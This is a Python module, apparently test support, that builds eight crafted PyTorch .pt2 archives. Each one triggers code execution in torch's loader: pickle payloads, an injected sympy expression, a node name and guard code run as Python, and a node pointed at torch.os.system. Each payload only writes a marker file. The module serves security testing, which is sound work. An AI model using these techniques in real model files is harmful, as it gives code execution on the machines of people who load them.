"""Crafted .pt2 archives: in torch's own loader each runs a harmless payload, which writes a marker file."""

from __future__ import annotations

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import Tensor, nn

MODEL = "archive/models/model.json"
WEIGHTS = "archive/data/weights/model_weights_config.json"
INPUTS = "archive/data/sample_inputs/model.pt"
Program = dict[str, Any]


class Payload:
    """A pickle of this writes ``path`` when it is read."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (code(self.path),)


def code(path: Path) -> str:
    """Python that writes the marker."""
    return f"open({str(path)!r}, 'w').write('executed')"


def torch_pickle(value: object) -> bytes:
    """As torch.save writes it."""
    out = io.BytesIO()
    torch.save(value, out)
    return out.getvalue()


class Tiny(nn.Module):
    """A network of two layers for images 1 x 4 x 4."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = nn.Conv2d(1, 2, 3, padding=1)
        self.head = nn.Linear(32, 3)

    def forward(self, pixels: Tensor) -> Tensor:
        out: Tensor = self.head(self.conv(pixels).relu().flatten(1))
        return out


def tiny() -> tuple[nn.Module, bytes]:
    """A network, and what plain ``torch.export.save`` makes of it for any batch."""
    torch.manual_seed(0)
    net = Tiny().eval()
    program = torch.export.export(
        net, (torch.rand(2, 1, 4, 4),), dynamic_shapes=({0: torch.export.Dim("batch")},)
    )  # fmt: skip
    out = io.BytesIO()
    torch.export.save(program, out)
    return net, out.getvalue()


def rewritten(archive: bytes, change: dict[str, Callable[[bytes], bytes]], **extra: bytes) -> bytes:
    """The archive with some entries changed and some added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, change.get(name, bytes)(old.read(name)))
        for name, content in extra.items():
            new.writestr(name, content)
    return out.getvalue()


def with_program(archive: bytes, change: Callable[[Program], object]) -> bytes:
    """The archive with its program changed in place by ``change``."""

    def edit(content: bytes) -> bytes:
        program = json.loads(content)
        change(program)
        return json.dumps(program).encode()

    return rewritten(archive, {MODEL: edit})


def pickled_inputs(archive: bytes, marker: Path) -> bytes:
    """Example inputs that run code as they are unpickled."""
    return rewritten(archive, {INPUTS: lambda _: torch_pickle(((Payload(marker),), {}))})


def pickled_weights(archive: bytes, marker: Path) -> bytes:
    """Weights that say they are stored with pickle."""

    def edit(content: bytes) -> bytes:
        config = json.loads(content)
        for meta in config["config"].values():
            meta["use_pickle"] = True
        return json.dumps(config).encode()

    payload = torch_pickle(Payload(marker))
    return rewritten(archive, {WEIGHTS: edit, "archive/data/weights/weight_0": lambda _: payload})


def expression(archive: bytes, marker: Path) -> bytes:
    """A size that is an expression, which sympy evaluates as Python."""

    def change(program: Program) -> None:
        for value in program["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = f'__import__("builtins").exec({code(marker)!r})'

    return with_program(archive, change)


def legacy_weights(archive: bytes, marker: Path) -> bytes:
    """Weights in the older place, one pickle for all."""
    return rewritten(archive, {}, **{"archive/data/weights/model.pt": torch_pickle({"a": Payload(marker)})})


def custom_object(archive: bytes, marker: Path) -> bytes:
    """A constant that is a pickled object."""
    meta = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    config = json.dumps({"config": {"c": meta}}).encode()
    return rewritten(
        archive,
        {"archive/data/constants/model_constants_config.json": lambda _: config},
        **{"archive/data/constants/opaque_obj_0": pickle.dumps(Payload(marker))},
    )


def node_name(archive: bytes, marker: Path) -> bytes:
    """The name of a value becomes a name in Python source that torch generates and executes."""
    payload = f"x=[{code(marker)}]"

    def rename(value: Any) -> Any:
        if isinstance(value, dict):
            return {rename(key): rename(item) for key, item in value.items()}
        if isinstance(value, list):
            return [rename(item) for item in value]
        return payload if value == "pixels" else value

    def change(program: Program) -> None:
        program["graph_module"] = rename(program["graph_module"])

    return with_program(archive, change)


def python_function(archive: bytes, marker: Path) -> bytes:
    """An operator that is any Python function reachable from torch."""

    def change(program: Program) -> None:
        node = program["graph_module"]["graph"]["nodes"][1]
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]

    return with_program(archive, change)


def guards(archive: bytes, marker: Path) -> bytes:
    """Conditions on inputs that torch compiles as Python."""
    return with_program(archive, lambda program: program.update(guards_code=[f"[{code(marker)}]"]))


ATTACKS = (
    pickled_inputs,
    pickled_weights,
    expression,
    legacy_weights,
    custom_object,
    node_name,
    python_function,
    guards,
)
